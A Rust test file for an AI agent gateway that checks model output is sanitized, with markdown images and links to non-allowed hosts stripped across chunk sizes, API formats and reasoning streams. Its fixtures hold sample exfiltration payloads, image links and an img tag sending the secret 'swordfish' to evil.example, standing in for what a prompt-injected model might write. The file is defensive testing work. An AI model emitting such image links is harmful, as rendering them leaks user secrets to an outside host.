//! What agents' answers may show and link to: however a model writes it, and by whichever door one asks.

use serde_json::{Value, json};
use tollway_simulator::Reply;
use tollway_tests::Setup;
use tollway_tests::agents::{ANN, CONFIG, asks, call, events, run, with};

const SECRET: &str = "swordfish";

/// What a model says that somebody has misled, with a picture and an address that stay.
const MISLED: &str = "It is 42. ![sum](https://evil.example/?q=swordfish) ![ok](https://cdn.example/a.png)\n\
    <img src=\"https://evil.example/swordfish\">\n\n![r]\n\n[r]: https://evil.example/swordfish\n\
    See [more](https://docs.example/).";
/// The same as it may be told.
const TOLD: &str = "It is 42. (image removed: sum) ![ok](https://cdn.example/a.png)\n\
    &lt;img src=\"https://evil.example/swordfish\">\n\n! [r]\n\n[r]: https://evil.example/swordfish\n\
    See [more](https://docs.example/).";

async fn setup(links: &str) -> Setup {
    Setup::with(&format!("{CONFIG}\nagent_settings: {{ links: {links} }}\n")).await
}

fn chunk(delta: &Value, finish: &Value) -> String {
    let choice = json!({"index": 0, "delta": delta, "finish_reason": finish});
    let chunk = json!({"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1,
                       "model": "gpt-4o-mini", "choices": [choice]});
    format!("data: {chunk}\n\n")
}

/// A model that says this in pieces of so many characters, and then asks for tools.
fn says(text: &str, size: usize, calls: &Value) -> Reply {
    let chars: Vec<char> = text.chars().collect();
    let pieces = chars.chunks(size).map(|piece| piece.iter().collect::<String>());
    let mut events: Vec<String> =
        pieces.map(|piece| chunk(&json!({"content": piece}), &Value::Null)).collect();
    match calls.as_array().is_some_and(|calls| !calls.is_empty()) {
        true => {
            events.push(chunk(&json!({"tool_calls": calls}), &Value::Null));
            events.push(chunk(&json!({}), &json!("tool_calls")));
        }
        false => events.push(chunk(&json!({}), &json!("stop"))),
    }
    events.push("data: [DONE]\n\n".to_owned());
    Reply::events(events)
}

fn reckons() -> Value {
    let function = json!({"name": "calculator", "arguments": "{\"expression\": \"6 * 7\"}"});
    json!([{"index": 0, "id": "call_1", "type": "function", "function": function}])
}

#[tokio::test]
async fn images_of_strangers_leave_by_no_door_however_they_are_cut() {
    let setup = setup("{ allowed_hosts: [cdn.example] }").await;
    for size in [1, 3, 7, 1_000] {
        setup.simulator.enqueue(says(MISLED, size, &reckons()));
        setup.simulator.enqueue(says(MISLED, size, &json!([])));
        let thread = call(&setup, "POST", "/threads", ANN, None).await.json();
        let asked = json!({"stream": true, "thread_id": thread["id"]});
        let told = events(&run(&setup, &with(asks("6*7?"), &asked)).await);
        let text: String = told
            .iter()
            .filter(|(name, _)| name == "message.delta")
            .map(|(_, data)| data["delta"].as_str().expect("text"))
            .collect();
        assert_eq!(text, format!("{TOLD}{TOLD}"), "{size}");
        // What the model is told again is what was told.
        let again = setup.asked().last().expect("a call").json()["messages"].to_string();
        assert!(!again.contains("evil.example/?q="), "{again}");
        let last = &told.last().expect("an end").1["run"];
        let id = last["id"].as_str().expect("an id");
        assert_eq!(last["choices"][0]["message"]["content"], TOLD);
        for path in [
            format!("/agent/runs/{id}"),
            format!("/agent/runs/{id}/steps"),
            format!("/agent/runs/{id}/events"),
            format!("/threads/{}/messages", thread["id"].as_str().expect("an id")),
        ] {
            let text = call(&setup, "GET", &path, ANN, None).await.text();
            assert!(
                text.contains("image removed") && !text.contains("evil.example/?q="),
                "{path}: {text}"
            );
        }
    }
    let changed = setup.gateway.metric("tollway_agent_links_changed_total", &[]).await;
    assert_eq!(changed, 4.0 * 2.0 * 3.0);
}

#[tokio::test]
async fn every_dialect_tells_the_same() {
    let setup = setup("{ allowed_hosts: [cdn.example] }").await;
    let messages = json!([{"role": "user", "content": "6*7?"}]);
    let chat = json!({"model": "agent/reckoner", "messages": messages, "max_tokens": 100});
    let input = json!({"model": "agent/reckoner", "input": "6*7?"});
    for (path, body) in
        [("/v1/chat/completions", &chat), ("/v1/messages", &chat), ("/v1/responses", &input)]
    {
        for stream in [false, true] {
            setup.simulator.enqueue(says(MISLED, 2, &json!([])));
            let body = with(body.clone(), &json!({"stream": stream}));
            let response = call(&setup, "POST", path, ANN, Some(&body)).await;
            assert_eq!(response.status, 200, "{path}: {}", response.text());
            let text = response.text();
            assert!(text.contains("cdn.example/a.png") || stream, "{path}: {text}");
            assert!(!text.contains("?q="), "{path}: {text}");
            assert!(text.contains("removed"), "{path}: {text}");
        }
    }
}

#[tokio::test]
async fn links_lead_to_what_was_seen_where_operators_want_that() {
    let setup = setup("{ links: seen, allowed_hosts: [docs.example] }").await;
    let text = "[a](https://docs.example/x) [b](https://mine.example/y) [c](https://evil.example/swordfish)";
    setup.simulator.enqueue(Reply::text(text));
    let done = run(&setup, &asks("What is on https://mine.example/?")).await.json();
    let content = done["choices"][0]["message"]["content"].as_str().expect("text");
    assert_eq!(
        content,
        "[a](https://docs.example/x) [b](https://mine.example/y) [c](#link-removed)"
    );
    assert!(!done.to_string().contains(SECRET), "{done}");
}

#[tokio::test]
async fn texts_of_two_steps_make_no_image_together() {
    let setup = setup("{}").await;
    let image = "![x](https://evil.example/?q=swordfish)";
    let unknown = json!([{"index": 0, "id": "call_1", "type": "function",
                          "function": {"name": "nothing", "arguments": "{}"}}]);
    for (first, second) in [
        // The second fence ends what the first has begun, where both are one text.
        ("```\na".to_owned(), format!("```\n{image}\n")),
        ("so!".to_owned(), image[1..].to_owned()),
    ] {
        setup.simulator.enqueue(says(&first, 2, &unknown));
        setup.simulator.enqueue(says(&second, 2, &json!([])));
        let body =
            json!({"model": "agent/reckoner", "messages": [{"role": "user", "content": "Hi"}]});
        let done = call(&setup, "POST", "/v1/chat/completions", ANN, Some(&body)).await.json();
        let text = done["choices"][0]["message"]["content"].as_str().expect("text");
        let (before, _) = text.split_once("\n\n").expect("two texts");
        assert!(before == "```\na\n```" || before == "so!", "{text:?}");
    }
}

#[tokio::test]
async fn thoughts_are_held_to_the_policy_as_well() {
    let config = CONFIG.replace("model: gpt-4o-mini", "model: claude");
    let setup = Setup::with(&config).await;
    let thought = "I show ![x](https://evil.example/?q=swordfish) now.";
    setup.simulator.enqueue(Reply::text("Hello.").thinking(thought));
    let told = events(&run(&setup, &with(asks("Hi"), &json!({"stream": true}))).await);
    let text: String = told
        .iter()
        .filter(|(name, _)| name == "reasoning.delta")
        .map(|(_, data)| data["delta"].as_str().expect("text"))
        .collect();
    assert_eq!(text, "I show (image removed: x) now.");
}
